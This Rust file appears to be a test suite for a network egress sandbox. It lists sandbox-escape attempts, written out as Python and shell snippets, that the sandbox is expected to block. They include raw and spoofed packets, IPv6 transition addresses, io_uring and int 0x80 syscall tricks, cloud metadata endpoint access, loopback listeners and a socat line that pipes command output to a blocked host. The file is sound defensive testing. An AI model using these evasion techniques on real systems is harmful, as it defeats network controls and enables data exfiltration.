//! Addresses and packets: every way of sending to where no rule leads.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::{Attack, Expect, How, Layer, MARK, Proof, Ready, attack, v4, v6};
use crate::{
    Protocol,
    addresses::{ALLOWED, BLOCKED, METADATA, PRIVATE},
};

const NO_RULE: Expect = Expect::Violation("no-rule");
const METADATA_SERVICE: Expect = Expect::Violation("metadata");
const LOOPBACK: Expect = Expect::Violation("loopback");
const SYSTEM_CALL: Expect = Expect::Nothing("the system call fails");

/// Allows datagrams to `allowed.test`.
const UDP_5000: &str = "
version: 1
jobs: {default: {allow: [{host: allowed.test, ports: [5000/udp]}]}}
";

/// A TCP connection that `connect()` itself is refused.
const fn connects(name: &'static str, script: &'static str, to: IpAddr) -> Attack {
    let proof = Proof::To(to, 443);
    attack(name, Layer::Connect, How::Python(script), proof, NO_RULE)
}

/// A datagram that is refused in its send.
const fn sends(name: &'static str, layer: Layer, script: &'static str, to: IpAddr) -> Attack {
    let proof = Proof::To(to, 5000);
    attack(name, layer, How::Python(script), proof, NO_RULE)
}

/// What takes a privilege that even a job that is root does not have.
const fn privileged(name: &'static str, script: &'static str, proof: Proof) -> Attack {
    attack(
        name,
        Layer::Privileges,
        How::Python(script),
        proof,
        SYSTEM_CALL,
    )
    .as_root()
}

/// A service that must not be reached.
const fn reaches(name: &'static str, script: &'static str, to: IpAddr, why: Expect) -> Attack {
    attack(
        name,
        Layer::Connect,
        How::Python(script),
        Proof::To(to, 80),
        why,
    )
}

/// Somebody's listener on the job's own side.
const fn listener(name: &'static str, script: &'static str, why: Expect) -> Attack {
    attack(
        name,
        Layer::Connect,
        How::Python(script),
        Proof::Prints("somebody outside"),
        why,
    )
    .outside(
        How::Python(
            "
s = socket.create_server(('::', 7001), family=socket.AF_INET6, dualstack_ipv6=True)
while True:
    c, _ = s.accept(); c.sendall(b'somebody outside'); c.close()
",
        ),
        Ready::Port(7001),
    )
}

/// `64:ff9b::198.51.100.20`, `2002:c633:6414::1`, a Teredo address and `::198.51.100.20`.
const NAT64: IpAddr = IpAddr::V6(Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0xc633, 0x6414));
const SIX_TO_FOUR: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2002, 0xc633, 0x6414, 0, 0, 0, 0, 1));
const TEREDO: IpAddr = IpAddr::V6(Ipv6Addr::new(
    0x2001, 0, 0xc633, 0x6414, 0x8000, 0xf227, 0x39cc, 0x9beb,
));
const COMPATIBLE: IpAddr = IpAddr::V6(Ipv6Addr::new(0, 0, 0, 0, 0, 0, 0xc633, 0x6414));

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "a_direct_address_by_ncat",
        Layer::Connect,
        How::Words(&["ncat", "-w", "3", "--send-only", "198.51.100.20", "443"]),
        Proof::To(v4(BLOCKED), 443),
        NO_RULE,
    ),
    attack(
        "a_direct_ipv6_address_by_socat",
        Layer::Connect,
        How::Words(&["socat", "-T3", "EXEC:id", "TCP6:[2001:db8:2::20]:443"]),
        Proof::To(v6(BLOCKED), 443),
        NO_RULE,
    ),
    attack(
        "a_port_scan_by_nmap",
        Layer::Connect,
        How::Words(&["nmap", "-sT", "-Pn", "-n", "--max-retries=0", "-p", "443,8000-8020", "198.51.100.20"]),
        Proof::To(v4(BLOCKED), 8000),
        NO_RULE,
    ),
    attack(
        "a_raw_port_scan_by_nmap",
        Layer::Privileges,
        How::Words(&["nmap", "-sS", "-Pn", "-n", "--max-retries=0", "-p", "443", "198.51.100.20"]),
        Proof::To(v4(BLOCKED), 443),
        SYSTEM_CALL,
    )
    .as_root(),
    attack(
        "spoofed_packets_by_hping3",
        Layer::Privileges,
        How::Words(&["timeout", "5", "hping3", "--udp", "-c", "1", "-p", "5000", "-a", "192.0.2.77", "198.51.100.20"]),
        Proof::To(v4(BLOCKED), 5000),
        SYSTEM_CALL,
    )
    .as_root(),
    attack(
        "fragments_by_hping3",
        Layer::Privileges,
        How::Words(&["timeout", "5", "hping3", "-f", "-S", "-c", "1", "-p", "443", "198.51.100.20"]),
        Proof::To(v4(BLOCKED), 443),
        SYSTEM_CALL,
    )
    .as_root(),
    attack(
        "another_port_of_an_allowed_name",
        Layer::Connect,
        How::Words(&["curl", "-sS", "-4", "-m", "5", "http://allowed.test:8000/"]),
        Proof::To(v4(ALLOWED), 8000),
        Expect::Violation("port"),
    ),
    connects("a_v4_mapped_address", "tcp('::ffff:' + BLOCKED, 443)", v4(BLOCKED)),
    connects("a_nat64_address", "tcp('64:ff9b::' + BLOCKED, 443)", NAT64),
    connects("a_6to4_address", "tcp('2002:c633:6414::1', 443)", SIX_TO_FOUR),
    connects("a_teredo_address", "tcp('2001:0:c633:6414:8000:f227:39cc:9beb', 443)", TEREDO),
    connects("a_v4_compatible_address", "tcp('::' + BLOCKED, 443)", COMPATIBLE),
    connects(
        "data_in_a_syn",
        "
s = socket.socket()
s.sendto(MARK, 0x20000000, (BLOCKED, 443))  # MSG_FASTOPEN
",
        v4(BLOCKED),
    ),
    connects(
        "data_in_the_syn_of_a_deferred_connect",
        "
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
s.connect((BLOCKED, 443))
s.send(MARK)
",
        v4(BLOCKED),
    ),
    connects(
        "a_connection_that_is_turned_round",
        "
ip = socket.gethostbyname('allowed.test')
s = socket.create_connection((ip, 443))
libc.connect(s.fileno(), b'\\0' * 16, 16)  # AF_UNSPEC
s.connect((BLOCKED, 443))
",
        v4(BLOCKED),
    ),
    connects(
        "a_connection_without_waiting",
        "
s = socket.socket()
s.setblocking(False)
s.connect_ex((BLOCKED, 443))
time.sleep(0.2)
",
        v4(BLOCKED),
    ),
    attack(
        "multipath_tcp",
        Layer::Socket,
        How::Python("
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.settimeout(2)
s.connect((ALLOWED, 443))
s.send(MARK)
"),
        MARK,
        Expect::Refusal("mptcp"),
    )
    .needs("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)"),
    attack(
        "sctp",
        Layer::Socket,
        How::Python("
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
s.settimeout(1)
s.connect((ALLOWED, 443))
"),
        Proof::Protocol(Protocol::Other(132)),
        Expect::Violation("protocol"),
    )
    .needs("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)"),
    attack(
        "dccp",
        Layer::Socket,
        How::Python("
s = socket.socket(socket.AF_INET, 6, 33)
s.setsockopt(269, 2, struct.pack('I', 42))
s.settimeout(1)
s.connect((ALLOWED, 443))
"),
        Proof::Protocol(Protocol::Other(33)),
        Expect::Violation("protocol"),
    )
    .needs("socket.socket(socket.AF_INET, 6, 33)"),
    attack(
        "udp_lite",
        Layer::Socket,
        How::Python("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(MARK, (ALLOWED, 443))"),
        Proof::Protocol(Protocol::Other(136)),
        Expect::Violation("protocol"),
    )
    .needs("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)"),
    sends("udp_by_sendto", Layer::Connect, "udp().sendto(MARK, (BLOCKED, 5000))", v4(BLOCKED)),
    sends("udp_by_sendto_over_ipv6", Layer::Connect, "udp(BLOCKED6).sendto(MARK, (BLOCKED6, 5000))", v6(BLOCKED)),
    sends("udp_by_sendmsg", Layer::Connect, "udp().sendmsg([MARK], [], 0, (BLOCKED, 5000))", v4(BLOCKED)),
    sends("udp_by_sendmmsg", Layer::Connect, "
to = ctypes.create_string_buffer(struct.pack('!HH4s8x', 0, 5000, socket.inet_aton(BLOCKED)))
to[0:2] = struct.pack('H', socket.AF_INET)
data = ctypes.create_string_buffer(MARK)
vector = ctypes.create_string_buffer(struct.pack('PN', ctypes.addressof(data), len(MARK)))
message = struct.pack('PI4xPNPNi4xI4x', ctypes.addressof(to), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
s = udp()
check(libc.sendmmsg(s.fileno(), ctypes.create_string_buffer(message * 2), 2, 0))
", v4(BLOCKED)),
    sends("udp_to_a_v4_mapped_address", Layer::Connect, "
udp(BLOCKED6).sendto(MARK, ('::ffff:' + BLOCKED, 5000))
", v4(BLOCKED)),
    sends("udp_on_a_connected_socket", Layer::Packet, "
s = udp()
s.connect((BLOCKED, 5000))
s.send(MARK)
", v4(BLOCKED)),
    sends("udp_by_a_plain_write", Layer::Packet, "
s = udp(BLOCKED6)
s.connect((BLOCKED6, 5000))
os.write(s.fileno(), MARK)
", v6(BLOCKED)),
    sends("udp_with_a_control_message", Layer::Packet, "
s = udp()
s.connect((BLOCKED, 5000))
s.sendmsg([MARK], [(socket.IPPROTO_IP, socket.IP_TTL, struct.pack('i', 64))])
", v4(BLOCKED)),
    sends("udp_to_an_address_without_a_family", Layer::Connect, "
# The kernel takes AF_UNSPEC for AF_INET.
to = struct.pack('!HH4s8x', 0, 5000, socket.inet_aton(BLOCKED))
s = udp()
check(libc.sendto(s.fileno(), MARK, len(MARK), 0, to, len(to)))
", v4(BLOCKED)),
    sends("udp_on_a_socket_that_was_allowed", Layer::Packet, "
ip = socket.gethostbyname('allowed.test')
s = udp()
s.connect((ip, 5000))
s.send(b'allowed')
s.connect((BLOCKED, 5000))
s.send(MARK)
", v4(BLOCKED))
    .policy(UDP_5000),
    sends("udp_that_changes_its_mind_while_corked", Layer::Packet, "
ip = socket.gethostbyname('allowed.test')
s = udp()
s.connect((ip, 5000))
s.send(MARK, socket.MSG_MORE)
s.connect((BLOCKED, 5000))
s.send(MARK)
", v4(BLOCKED))
    .policy(UDP_5000),
    sends("udp_in_segments", Layer::Connect, "
s = udp()
s.setsockopt(socket.IPPROTO_UDP, 103, 100)  # UDP_SEGMENT
s.sendto(MARK * 100, (BLOCKED, 5000))
", v4(BLOCKED)),
    sends("udp_larger_than_a_packet", Layer::Connect, "udp().sendto(MARK * 1000, (BLOCKED, 5000))", v4(BLOCKED)),
    sends("udp_from_a_bound_device", Layer::Connect, "
s = udp()
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
s.sendto(MARK, (BLOCKED, 5000))
", v4(BLOCKED)),
    attack(
        "udp_without_a_copy",
        Layer::Seccomp,
        How::Python("
s = udp()
s.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
s.sendto(MARK, 0x4000000, (BLOCKED, 5000))  # MSG_ZEROCOPY
"),
        MARK,
        Expect::Nothing("the option is refused"),
    ),
    attack(
        "udp_to_an_allowed_tcp_port",
        Layer::Connect,
        How::Python("
ip = socket.gethostbyname('allowed.test')
udp().sendto(MARK, (ip, 443))
"),
        MARK,
        Expect::Violation("protocol"),
    ),
    attack(
        "tcp_to_an_allowed_udp_port",
        Layer::Connect,
        How::Python("
ip = socket.gethostbyname('allowed.test')
tcp(ip, 443)
"),
        Proof::To(v4(ALLOWED), 443),
        Expect::Violation("protocol"),
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: allowed.test, ports: [443/udp], tls: off}]}}
"),
    attack(
        "quic_to_an_allowed_address",
        Layer::Connect,
        How::Shell("
getent ahostsv4 allowed.test
timeout 40 gtlsclient -q --sni=allowed.test 198.51.100.10 443 https://allowed.test/
"),
        Proof::Payload(v4(ALLOWED), 443),
        Expect::Violation("protocol"),
    ),
    attack(
        "quic_to_another_address",
        Layer::Connect,
        How::Python("
# An Initial packet (RFC 9000 section 17.2.2), padded as clients do.
packet = b'\\xc3\\0\\0\\0\\1' + vector(os.urandom(8), 1) + vector(os.urandom(8), 1) + b'\\0'
udp().sendto((packet + struct.pack('!H', 0x4000 | 1170)).ljust(1200, b'\\x5a'), (BLOCKED, 443))
"),
        Proof::To(v4(BLOCKED), 443),
        NO_RULE,
    ),
    attack(
        "a_ping",
        Layer::Socket,
        // A copy, without the capability that the file may have.
        How::Shell("cp \"$(command -v ping)\" . && ./ping -c 1 -W 1 198.51.100.20"),
        Proof::Protocol(Protocol::Icmp),
        Expect::Violation("protocol"),
    ),
    attack(
        "a_ping_over_ipv6",
        Layer::Socket,
        How::Python("
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58)
s.sendto(bytes([128, 0, 0, 0, 0, 0, 0, 0]) + MARK, (BLOCKED6, 0))
"),
        MARK,
        Expect::Violation("protocol"),
    ),
    attack(
        "data_in_pings_to_an_allowed_address",
        Layer::Socket,
        How::Python("
ip = socket.gethostbyname('allowed.test')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
s.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]) + MARK, (ip, 0))
"),
        MARK,
        Expect::Violation("protocol"),
    ),
    privileged("a_raw_icmp_socket", "raw(1, data=bytes(8) + MARK)", MARK),
    privileged("a_raw_socket_of_an_unused_protocol", "raw(253)", MARK),
    privileged("a_raw_ipv6_socket", "raw(253, BLOCKED6)", MARK),
    privileged("ipv6_in_ipv4", "
inner = struct.pack('!IHBB', 6 << 28, len(MARK), 59, 64)
inner += socket.inet_pton(socket.AF_INET6, '::1') + socket.inet_pton(socket.AF_INET6, BLOCKED6)
raw(41, data=inner + MARK)
", MARK),
    privileged("gre", "raw(47, data=struct.pack('!HH', 0, 0x0800) + MARK)", MARK),
    privileged("a_header_of_its_own", "
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, 64, 17, 0,
                     socket.inet_aton('192.0.2.2'), socket.inet_aton(BLOCKED))
s.sendto(header + struct.pack('!4H', 9, 5000, 8 + len(MARK), 0) + MARK, (ALLOWED, 0))
", MARK),
    privileged("a_truncated_packet", "
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, 64, 6, 0,
                     socket.inet_aton('192.0.2.2'), socket.inet_aton(BLOCKED))
s.sendto(header + b'\\1', (BLOCKED, 0))
", Proof::To(v4(BLOCKED), 0)),
    privileged("a_later_fragment", "
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 9, 100, 64, 17, 0,
                     socket.inet_aton('192.0.2.2'), socket.inet_aton(BLOCKED))
s.sendto(header + MARK, (BLOCKED, 0))
", Proof::To(v4(BLOCKED), 0)),
    privileged("a_frame_on_a_packet_socket", "
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('eth0', 0x0800))
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(MARK), 0, 0, 64, 17, 0,
                     socket.inet_aton('192.0.2.2'), socket.inet_aton(BLOCKED))
s.send(bytes([2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0]) + header + struct.pack('!4H', 9, 5000, 8 + len(MARK), 0) + MARK)
", MARK),
    privileged("a_packet_from_a_tun_device", "
import fcntl
tun = os.open('/dev/net/tun', os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack('16sH22x', b'tun0', 0x1001))  # TUNSETIFF
subprocess.run(['ip', 'link', 'set', 'tun0', 'up'], check=True)
for path in ['ip_forward', 'conf/tun0/rp_filter', 'conf/all/rp_filter']:
    open('/proc/sys/net/ipv4/' + path, 'w').write('1' if path == 'ip_forward' else '0')
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(MARK), 0, 0, 64, 17, 0,
                     socket.inet_aton('203.0.113.7'), socket.inet_aton(BLOCKED))
words = struct.unpack('!10H', header)
total = sum(words); total = (total & 0xffff) + (total >> 16)
header = header[:10] + struct.pack('!H', ~total & 0xffff) + header[12:]
os.write(tun, header + struct.pack('!4H', 9, 5000, 8 + len(MARK), 0) + MARK)
", MARK)
    .needs("os.open('/dev/net/tun', os.O_RDWR)"),
    attack(
        "a_raw_socket_in_a_user_namespace",
        Layer::Socket,
        How::Words(&["unshare", "-Urn", "python3", "-c", "
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
print('made a raw socket')
"]),
        Proof::Prints("made a raw socket"),
        Expect::Violation("raw-socket"),
    ),
    attack(
        "a_packet_socket_in_a_user_namespace",
        Layer::Seccomp,
        How::Words(&["unshare", "-Urn", "python3", "-c", "
import socket
socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
print('made a packet socket')
"]),
        Proof::Prints("made a packet socket"),
        SYSTEM_CALL,
    ),
    attack(
        "an_xdp_socket_in_a_user_namespace",
        Layer::Seccomp,
        How::Words(&["unshare", "-Urn", "python3", "-c", "
import socket
socket.socket(44, socket.SOCK_RAW)
print('made an XDP socket')
"]),
        Proof::Prints("made an XDP socket"),
        SYSTEM_CALL,
    )
    .needs("
try: socket.socket(44, socket.SOCK_RAW)
except PermissionError: pass
"),
    attack(
        "a_socket_to_the_hypervisor",
        Layer::Seccomp,
        How::Python("socket.socket(40, socket.SOCK_STREAM); print('made a vsock')"),
        Proof::Prints("made a vsock"),
        SYSTEM_CALL,
    )
    .needs("socket.socket(40, socket.SOCK_STREAM)"),
    attack(
        "sockets_of_every_other_family",
        Layer::Seccomp,
        How::Python("
for family in range(3, 64):
    for kind in [1, 2, 3, 5] if family not in (10, 16) else []:
        try: socket.socket(family, kind); print('made a socket of family', family)
        except OSError: pass
"),
        Proof::Prints("made a socket of family"),
        SYSTEM_CALL,
    )
    .as_root(),
    attack(
        "netlink_beyond_routes_and_devices",
        Layer::Seccomp,
        How::Python("
for protocol in range(1, 32):
    if protocol == 15: continue
    try: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); print('made netlink', protocol)
    except OSError: pass
"),
        Proof::Prints("made netlink"),
        SYSTEM_CALL,
    ),
    attack(
        "a_datagram_by_io_uring",
        Layer::Seccomp,
        How::Python(IO_URING),
        MARK,
        SYSTEM_CALL,
    )
    .needs("check(libc.syscall(425, 2, ctypes.create_string_buffer(120)))"),
    attack(
        "sockets_by_system_calls_for_32_bits",
        Layer::Seccomp,
        How::Python(INT80),
        MARK,
        // The kernel kills the process.
        SYSTEM_CALL,
    )
    .as_root()
    .needs(INT80_NEEDS),
    attack(
        "a_routing_header_in_a_control_message",
        Layer::Packet,
        How::Python("
# Type 2 (RFC 6275): the hooks of calls see the last address, the packet goes to the first.
ip = socket.getaddrinfo('allowed.test', 5000, socket.AF_INET6)[0][4][0]
header = struct.pack('BBBB4x16s', 0, 2, 2, 1, socket.inet_pton(socket.AF_INET6, BLOCKED6))
udp(BLOCKED6).sendmsg([MARK], [(41, 57, header)], 0, (ip, 5000))
"),
        MARK,
        Expect::Violation("extension-header"),
    )
    .policy(UDP_5000)
    .needs(ROUTING_HEADER),
    attack(
        "a_routing_header_as_an_option",
        Layer::Seccomp,
        How::Python("
ip = socket.getaddrinfo('allowed.test', 5000, socket.AF_INET6)[0][4][0]
s = udp(BLOCKED6)
s.setsockopt(41, 57, struct.pack('BBBB4x16s', 0, 2, 2, 1, socket.inet_pton(socket.AF_INET6, BLOCKED6)))
s.sendto(MARK, (ip, 5000))
"),
        MARK,
        SYSTEM_CALL,
    )
    .policy(UDP_5000)
    .needs(ROUTING_HEADER),
    attack(
        "a_source_route",
        Layer::Seccomp,
        How::Python("
ip = socket.gethostbyname('allowed.test')
s = udp()
s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(BLOCKED) + b'\\1')  # IP_OPTIONS, LSRR
s.sendto(MARK, (ip, 443))
"),
        MARK,
        SYSTEM_CALL,
    )
    .as_root(),
    attack(
        "a_source_route_in_a_control_message",
        Layer::Privileges,
        How::Python("
ip = socket.gethostbyname('allowed.test')
route = bytes([131, 7, 4]) + socket.inet_aton(BLOCKED) + b'\\1'
udp().sendmsg([MARK], [(0, 7, route)], 0, (ip, 5000))  # IP_RETOPTS
"),
        MARK,
        // Older kernels ask for no privilege.
        Expect::Perhaps("extension-header"),
    )
    .as_root()
    .policy(UDP_5000),
    attack(
        "data_in_an_ipv6_option",
        Layer::Privileges,
        How::Python("
ip = socket.getaddrinfo('allowed.test', 5000, socket.AF_INET6)[0][4][0]
option = struct.pack('BB', 0x1e, len(MARK)) + MARK
option = (b'\\0' + bytes([(2 + len(option) + 7) // 8 - 1]) + option).ljust((2 + len(option) + 7) // 8 * 8, b'\\0')
udp(BLOCKED6).sendmsg([b'allowed'], [(41, 59, option)], 0, (ip, 5000))  # IPV6_DSTOPTS
"),
        Proof::Payload(v6(ALLOWED), 5000),
        SYSTEM_CALL,
    )
    .as_root()
    .policy(UDP_5000),
    reaches("a_metadata_service", "tcp('169.254.169.254', 80)", v4(METADATA), METADATA_SERVICE),
    reaches("a_metadata_service_over_ipv6", "tcp('fd00:ec2::254', 80)", v6(METADATA), METADATA_SERVICE),
    reaches(
        "the_wire_server_of_azure",
        "tcp('168.63.129.16', 80)",
        IpAddr::V4(Ipv4Addr::new(168, 63, 129, 16)),
        METADATA_SERVICE,
    ),
    reaches(
        "a_metadata_service_inside_a_wide_cidr",
        "tcp('169.254.169.254', 80)",
        v4(METADATA),
        METADATA_SERVICE,
    )
    .policy("
version: 1
jobs: {default: {allow: [{cidr: 169.254.0.0/16, ports: [80], http: off}]}}
"),
    reaches("a_private_network", "tcp('10.77.0.9', 80)", v4(PRIVATE), NO_RULE),
    reaches("a_private_ipv6_network", "tcp('fd00:77::9', 80)", v6(PRIVATE), NO_RULE),
    listener("a_listener_at_the_hosts_own_address", "
print(socket.create_connection(('192.0.2.2', 7001), 5).recv(99))
", NO_RULE),
    listener("a_listener_on_the_loopback_interface", "
print(socket.create_connection(('127.0.0.1', 7001), 5).recv(99))
", LOOPBACK),
    listener("a_listener_on_the_ipv6_loopback_interface", "
print(socket.create_connection(('::1', 7001), 5).recv(99))
", LOOPBACK),
    listener("a_listener_at_another_loopback_address", "
print(socket.create_connection(('127.8.9.10', 7001), 5).recv(99))
", LOOPBACK),
    listener("a_listener_at_the_unspecified_address", "
print(socket.create_connection(('0.0.0.0', 7001), 5).recv(99))
", LOOPBACK),
    listener("a_listener_at_a_v4_mapped_loopback_address", "
print(socket.create_connection(('::ffff:127.0.0.1', 7001), 5).recv(99))
", LOOPBACK),
    attack(
        "a_proxy_by_proxychains",
        Layer::Connect,
        How::Shell("
printf 'strict_chain\\n[ProxyList]\\nsocks5 127.0.0.1 1080\\n' > chain
proxychains4 -q -f chain curl -sS -m 5 http://198.51.100.20/
"),
        Proof::Carrying(b"Host: 198.51.100.20"),
        LOOPBACK,
    )
    .outside(
        How::Words(&["microsocks", "-i", "127.0.0.1", "-p", "1080"]),
        Ready::Port(1080),
    ),
    attack(
        "a_loopback_address_through_a_real_device",
        Layer::Packet,
        How::Python("
def out(address, kind):
    s = socket.socket(family(address), kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    s.settimeout(0.2)
    if kind == socket.SOCK_DGRAM: s.sendto(MARK, (address, 9999))
    else: s.connect((address, 9999))
try_each(*(lambda a=a, k=k: out(a, k) for a in ('127.0.0.1', '127.9.9.9', '::1', '::ffff:127.0.0.1')
           for k in (socket.SOCK_DGRAM, socket.SOCK_STREAM)))
"),
        MARK,
        Expect::Violation("loopback"),
    ),
    attack(
        "an_answer_to_somebody_outside",
        Layer::Packet,
        How::Python("
s = socket.create_server(('0.0.0.0', 7010))
s.settimeout(3)
try: s.accept(); print('somebody came in')
except TimeoutError: pass
"),
        Proof::Prints("somebody came in"),
        Expect::Refusal("inbound"),
    )
    .outside(
        How::Python("
open('knocking', 'w')
while True:
    s = socket.socket()
    s.settimeout(0.5)
    try: s.connect(('192.0.2.2', 7010))
    except OSError: time.sleep(0.01)
"),
        Ready::File("knocking"),
    ),
];

/// Mobile IPv6 is not in every kernel.
const ROUTING_HEADER: &str = "
header = struct.pack('BBBB4x16s', 0, 2, 2, 1, socket.inet_pton(socket.AF_INET6, BLOCKED6))
udp(BLOCKED6).sendmsg([MARK], [(41, 57, header)], 0, (ALLOWED6, 9))
";

/// Sends a datagram through an io_uring, without a system call for it.
const IO_URING: &str = "
import mmap
parameters = ctypes.create_string_buffer(120)
ring = check(libc.syscall(425, 2, parameters))
sq, cq = struct.unpack_from('10I', parameters, 40), struct.unpack_from('10I', parameters, 80)
size = max(sq[6] + 8, cq[5] + 16 * 4) + 4096
queue = mmap.mmap(ring, size, offset=0)
entries = mmap.mmap(ring, 4096, offset=0x10000000)
s = udp()
to = ctypes.create_string_buffer(struct.pack('H', 2) + struct.pack('!H4s8x', 5000, socket.inet_aton(BLOCKED)))
data = ctypes.create_string_buffer(MARK)
iov = ctypes.create_string_buffer(struct.pack('PN', ctypes.addressof(data), len(MARK)))
message = ctypes.create_string_buffer(
    struct.pack('PI4xPNPNi4x', ctypes.addressof(to), 16, ctypes.addressof(iov), 1, 0, 0, 0))
# IORING_OP_SENDMSG
entries[0:64] = struct.pack('BBHiQQII', 9, 0, 0, s.fileno(), 0, ctypes.addressof(message), 1, 0).ljust(64, b'\\0')
struct.pack_into('I', queue, sq[6], 0)
struct.pack_into('I', queue, sq[1], 1)
check(libc.syscall(426, ring, 1, 1, 1, 0, 0))
";

/// Runs machine code that makes a system call in the way of 32-bit programs.
const INT80_NEEDS: &str = "
import mmap, platform
if platform.machine() != 'x86_64': raise SystemExit('no 32-bit programs on this architecture')
def int80(number, a=0, b=0, c=0):
    code = b'\\x53\\xb8' + struct.pack('I', number) + b'\\xbb' + struct.pack('I', a)
    code += b'\\xb9' + struct.pack('I', b) + b'\\xba' + struct.pack('I', c) + b'\\xcd\\x80\\x5b\\xc3'
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
pid = os.fork()
if pid == 0:
    os._exit(0 if int80(20) == os.getpid() else 1)  # getpid
if os.waitpid(pid, 0)[1]: raise SystemExit('this kernel runs no 32-bit programs')
";
const INT80: &str = "
import mmap
def int80(number, a=0, b=0, c=0):
    code = b'\\x53\\xb8' + struct.pack('I', number) + b'\\xbb' + struct.pack('I', a)
    code += b'\\xb9' + struct.pack('I', b) + b'\\xba' + struct.pack('I', c) + b'\\xcd\\x80\\x5b\\xc3'
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
fd = int80(359, 17, 3, 0)  # socket(AF_PACKET, SOCK_RAW, 0)
if fd < 0: raise OSError(-fd, os.strerror(-fd))
s = socket.socket(fileno=fd)
s.bind(('eth0', 0x0800))
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(MARK), 0, 0, 64, 17, 0,
                     socket.inet_aton('192.0.2.2'), socket.inet_aton(BLOCKED))
s.send(bytes([2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0]) + header + struct.pack('!4H', 9, 5000, 8 + len(MARK), 0) + MARK)
";
